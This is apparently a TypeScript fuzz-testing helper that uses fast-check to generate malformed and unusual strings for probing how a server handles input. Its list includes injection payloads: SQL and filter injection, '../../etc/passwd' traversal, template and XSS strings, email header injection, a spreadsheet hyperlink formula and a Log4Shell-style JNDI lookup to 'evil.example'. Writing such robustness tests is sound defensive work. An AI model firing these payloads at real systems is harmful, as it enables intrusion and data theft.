// Texts that a careless server trips over.
import * as fc from 'fast-check';
import { below, pick, type Luck } from './luck.ts';

/** Any UTF-16, halves of surrogate pairs too. */
const anyText = (): fc.Arbitrary<string> =>
  fc.array(fc.nat(0xffff), { maxLength: 40 }).map((units) => String.fromCharCode(...units));

/** Texts with something odd in each; sizes stay below what a body may hold. */
const texts = [
  '',
  ' ',
  '\t\r\n',
  '\u0000',
  'a\u0000b',
  '\u0007bell',
  '\u0085next line',
  'a\u2028b\u2029c',
  '\ud800',
  'x\udc00y',
  '\udbff\udbff',
  '\u202eexe.fdp',
  '\u2066hidden\u2069',
  '\u0378unassigned',
  '\ufeffbom',
  '\ufffe\uffff',
  '\u{10ffff}',
  '\u200b\u200d\u2060',
  '\u3164',
  'ﷺ'.repeat(20),
  'I\u0307\u0130ı',
  'Å\u212b\u0041\u030a',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  "' OR 1 eq 1 --",
  "PartitionKey eq 'x' or true",
  '../../etc/passwd',
  '%00%2e%2e%2f',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'Bcc: eve@evil.example\r\nX: y',
  '=HYPERLINK("https://evil.example")',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '2026-02-30T25:61:61Z',
  '+999999-01-01T00:00:00Z',
  'ada@contoso.example,eve@evil.example',
  '"a b"@contoso.example',
  'ada@xn--a',
  'ada@[127.0.0.1]',
  `${'a'.repeat(64)}@${'b'.repeat(63)}.example`,
  'javascript:alert(1)',
  'https://user:secret@contoso.example:99999/',
  '\\u0041\\',
] as const;

const floods: readonly [(size: number) => string, ...((size: number) => string)[]] = [
  (size) => 'x'.repeat(size),
  (size) => `e${'\u0301'.repeat(size)}`,
  (size) => '😀'.repeat(Math.ceil(size / 2)),
  (size) => '\u0000'.repeat(size),
  (size) => ' '.repeat(size),
  (size) => 'ﬃ'.repeat(size),
  (size) => 'a@'.repeat(Math.ceil(size / 2)),
  (size) => `${'a.'.repeat(Math.ceil(size / 2))}example`,
];

const sizes = [101, 255, 501, 1_000, 5_000, 20_000] as const;

export const oddText = (luck: Luck): string => {
  const kind = below(luck, 10);
  if (kind < 5) return pick(luck, texts);
  if (kind === 5) return luck(anyText);
  if (kind === 6) return pick(luck, floods)(pick(luck, sizes));
  return pick(luck, texts) + pick(luck, texts);
};
